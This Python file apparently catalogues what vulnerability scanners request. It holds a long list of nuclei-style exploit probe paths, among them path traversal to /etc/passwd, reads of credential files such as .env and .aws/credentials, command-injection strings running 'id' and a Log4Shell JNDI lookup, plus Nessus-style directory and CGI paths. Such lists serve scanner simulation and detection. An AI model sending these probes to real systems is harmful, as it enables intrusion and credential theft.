"""What vulnerability scanners ask for: public paths of known flaws, and inputs that break an application."""

# Paths of known flaws, as nuclei's public templates ask for them, one request each.
EXPLOITS = """
/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd
/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/phpunit/src/Util/PHP/eval-stdin.php
/solr/admin/info/system?wt=json
/solr/admin/cores?wt=json
/actuator/env
/actuator/heapdump
/actuator/gateway/routes
/env
/jolokia/list
/console/css/%252e%252e%252fconsole.portal
/wls-wsat/CoordinatorPortType
/_async/AsyncResponseService
/bea_wls_deployment_internal/DeploymentService
/struts2-showcase/index.action
/index.action?redirect:%24%7B7*7%7D
/login.action?username=%25%7B7*7%7D
/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%29%7D/
/?x=${jndi:ldap://probe.example.test/a}
/api/v1/pods
/v1/agent/self
/v2/_catalog
/_cat/indices?v
/_search?pretty
/.well-known/acme-challenge/..%2f..%2f..%2fetc/passwd
/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
/mgmt/tm/util/bash
/vpn/../vpns/cfg/smb.conf
/vpns/portal/scripts/newbm.pl
/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
/remote/login
/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
/+CSCOE+/logon.html
/owa/auth/x.js
/autodiscover/autodiscover.json?@example.test/owa/&Email=autodiscover/autodiscover.json%3F@example.test
/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
/mapi/nspi/
/_layouts/15/start.aspx
/webtools/control/xmlrpc
/webtools/control/main
/pages/createpage-entervariables.action
/rest/api/2/user/picker?query=
/secure/ContactAdministrators!default.jspa
/plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/
/s/cfx/_/;/WEB-INF/web.xml
/s/cfx/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
/login/index.php?id=1%27
/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1
/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(1,user()),1)
/?q=user/password&name[%23post_render][]=printf
/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
/wp-content/plugins/duplicator/readme.txt
/wp-admin/admin-ajax.php?action=duplicator_download&file=../../../../wp-config.php
/wp-json/wp/v2/users/
/wp-content/debug.log
/xmlrpc.php
/wp-config.php.swp
/.git/HEAD
/.env
/.aws/credentials
/.vscode/sftp.json
/config.json
/server-status?auto
/nginx_status
/phpinfo.php
/phpmyadmin/scripts/setup.php
/pma/index.php
/adminer.php
/manager/html
/host-manager/html
/examples/jsp/snp/snoop.jsp
/invoker/JMXInvokerServlet
/jmx-console/HtmlAdaptor
/web-console/Invoker
/axis2/axis2-admin/
/axis2/services/Version?xsd=../conf/axis2.xml
/CFIDE/administrator/enter.cfm
/CFIDE/administrator/enter.cfm?locale=../../../../../lib/password.properties%00en
/cf_scripts/scripts/ajax/ckeditor/ckeditor.js
/script
/asynchPeople/
/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript
/api/jsonws/invoke
/telescope/requests
/_ignition/execute-solution
/storage/logs/laravel.log
/_profiler/phpinfo
/app_dev.php/_profiler/open?file=app/config/parameters.yml
/debug/pprof/
/debug/vars
/metrics
/swagger-ui.html
/v2/api-docs
/graphql?query={__schema{types{name}}}
/grafana/login
/public/plugins/alertlist/../../../../../../../../etc/passwd
/public/plugins/mysql/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd
/zabbix/setup.php
/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph
/nagios/
/cacti/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=1
/GponForm/diag_Form?images/
/HNAP1/
/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1
/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
/boaform/admin/formLogin
/language/lang.cgi?lang=..%2f..%2fetc%2fpasswd
/cgi-bin/test-cgi
/cgi-bin/status
/shell?cd+/tmp;id
/druid/index.html
/nacos/v1/auth/users?pageNo=1&pageSize=1
/seeyon/webmail.do?method=doDownloadAtt&filename=test.txt&filePath=../conf/datasourceCtp.properties
/weaver/bsh.servlet.BshServlet
/geoserver/web/
/confluence/pages/doenterpagevariables.action
/nexus/service/rest/beta/repositories
/artifactory/ui/login
/kibana/api/console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../etc/passwd
/sap/admin/public/default.html
/irj/portal
/webmail/program/resources/blocked.gif
/horde/services/go.php
/rails/actions?error=ActiveRecord::PendingMigrationError&action=Run%20pending%20migrations
/assets/file:%2f%2f/etc/passwd
/..%5c..%5c..%5cwindows%5cwin.ini
/static/..%252f..%252f..%252fetc/passwd
/cgi-bin/bash
""".split()

# What Nessus asks a web server for: files of known products, extensions, methods and directories.
NESSUS = ["/", "/robots.txt", "/favicon.ico", "/nessus-does-not-exist-1795.html", "/sitemap.xml", "/crossdomain.xml"] + [
    f"/{folder}/" for folder in """admin administrator app apps asp backup bin cfdocs cgi cgi-bin cgis com config content data
    db demo dev docs download downloads error errors etc examples exchange files forum forums global guest help htdocs icons
    iisadmin iissamples images img inc include install intranet jsp lib log login logs mail manual members msadc net news old
    oracle pages password php phpMyAdmin pls private prod pub public samples scripts secure server server-info servlet servlets
    shop site soap sql src stats status store support sys system temp test tests tmp tools upload uploads usage user users util
    web webadmin webalizer weblog webmail websql webstats www xml""".split()] + [
    f"/cgi-bin/{script}" for script in """awstats.pl bash count.cgi finger formmail.pl guestbook.cgi htsearch info.cgi
    nph-test-cgi php.cgi phf printenv search.cgi test-cgi test.cgi view-source webdist.cgi""".split()] + [
    f"/index.{extension}" for extension in "asp aspx bak cfm cgi htm inc jsp nsf old php php3 php~ pl shtml swp txt".split()]
